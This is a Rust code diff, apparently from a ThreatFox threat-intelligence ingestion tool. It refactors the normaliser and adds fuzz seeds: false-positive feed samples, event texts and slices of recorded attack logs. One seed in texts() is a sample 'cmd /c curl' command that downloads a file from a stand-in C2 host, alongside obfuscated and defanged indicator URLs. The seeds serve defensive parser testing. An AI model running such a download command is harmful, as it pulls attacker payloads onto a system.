@@ -6,7 +6,7 @@ use std::path::Path;
 use flate2::Compression;
 use flate2::write::GzEncoder;
 use threatfox::feed;
-use threatfox::normalize::{Filter, Normalized, Normalizer, Shape};
+use threatfox::normalize::{Filter, KeyStore, Normalizer};
 use threatfox::shared_hosts::SharedHosts;
 use threatfox::source::{self, Input};
 use threatfox::table::Layout;
@@ -105,10 +105,10 @@ pub fn policies() -> Vec<Vec<u8>> {
 }
 
 fn feed_of(export: &[u8]) -> Vec<u8> {
-    let mut normalizer = Normalizer::new(Shape::ByKey, Filter::default(), SharedHosts::built_in());
+    let mut normalizer = Normalizer::<KeyStore>::new(Filter::default(), SharedHosts::built_in());
     let read = source::read(&Input::of_bytes(export, "sample"), &mut normalizer);
     match read.and_then(|_| normalizer.finish()) {
-        Ok((Normalized::ByKey(store), _)) => {
+        Ok((store, _)) => {
             feed::write(&store, Vec::new(), Layout::Csv).map_or(Vec::new(), |(bytes, _)| bytes)
         }
         _ => Vec::new(),
@@ -132,4 +132,45 @@ fn zipped(bytes: &[u8]) -> Vec<u8> {
 fn sample(name: &str) -> Vec<u8> {
     let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/threatfox");
     std::fs::read(folder.join(name)).unwrap_or_default()
+}
+
+/// Lists of false positives, as the Hunting API and its page have them.
+pub fn false_positives() -> Vec<Vec<u8>> {
+    let entry = r#"{"time_stamp":"2026-03-15 04:01:14 UTC","platform":"ThreatFox","entry_type":"domain","entry_value":"bank.example","removed_by":"someone","removal_notes":"a \u00fc bank"}"#;
+    [
+        format!("{{\"77\":{entry},\"78\":{entry}}}"),
+        format!("{{\"query_status\":\"ok\",\"data\":[{entry},{{\"entry_value\":\"203.0.113.7:443\"}}]}}"),
+        format!("[{entry}]"),
+        r#"{"query_status":"unknown_auth_key","data":"x"}"#.to_owned(),
+        "# \"time_stamp\",\"platform\",\"entry_type\",\"entry_value\",\"removed_by\",\"removal_notes\"\n\
+         \"2026-03-15 04:01:14\", \"ThreatFox\", \"url\", \"http://bank.example/x\", \"someone\", \"\"\n"
+            .to_owned(),
+    ]
+    .map(String::into_bytes)
+    .to_vec()
+}
+
+/// Texts of events, and values that people type.
+pub fn texts() -> Vec<Vec<u8>> {
+    [
+        r#"cmd /c "curl -o x https://u:p@c2.evil.example:8443/a?b#c & ping [2001:db8::7]:443" \\203.0.113.7@80\DavWWWRoot\x"#,
+        "type:  5 cdn.evil.example;::ffff:203.0.113.7;64:ff9b::cb00:7107;2001:db8::7;",
+        "SHA1=A41B65A11638C58B99039B5099D4229E33761541,MD5=7EBFDCF78039F8A62E76687F29973FDE,IMPHASH=0",
+        "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://b\u{fc}cher.example/  HostUrl=http://0x5e.1098916/./x",
+        "hxxps[:]//evil[.]example/x",
+        "xn--bcher-kva.example.",
+    ]
+    .map(|text| text.as_bytes().to_vec())
+    .to_vec()
+}
+
+/// The first chunks of real logs.
+pub fn chunks() -> Vec<Vec<u8>> {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/evtx");
+    let names = ["sysmon-psexec-dns.evtx", "otrf-covenant-dcom-iertutil.evtx"];
+    let logs = names
+        .iter()
+        .filter_map(|name| std::fs::read(folder.join(name)).ok());
+    // As much as libFuzzer changes.
+    logs.map(|log| log[0x1000..0x5000].to_vec()).collect()
 }
